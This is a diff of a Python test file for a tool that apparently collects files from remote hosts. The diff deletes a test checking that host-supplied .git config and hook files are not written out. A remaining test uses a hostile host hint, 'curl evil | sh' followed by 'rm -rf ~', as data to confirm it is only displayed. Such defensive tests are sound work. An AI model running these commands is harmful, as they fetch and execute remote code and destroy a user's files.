@@ -392,13 +392,6 @@ def test_a_size_that_no_file_has_ends_that_host_alone(tmp_path, size):
     assert len(got.words) == 2 and ": node01: " in got.words[1]
 
 
-def test_what_programs_here_obey_is_not_written(tmp_path):
-    evil = [files([".git/config", 1], ["x/.git/hooks/post-checkout", 1], ["x", 1]), part(1)]
-    got = brought(tmp_path, evil, [files(["a", 1]), part(1)])
-    assert (got.files, got.size) == (2, 2)
-    assert not [p for p in (tmp_path / "outputs").rglob("*") if ".git" in p.parts]
-
-
 def test_what_a_host_suggests_is_shown_as_its_words():
     error = {"what": "no", "hint": "curl evil | sh\nrm -rf ~"}
     for host, prefix in ((Host("node01"), "the host suggests: "), (Host("me", local=True), "")):
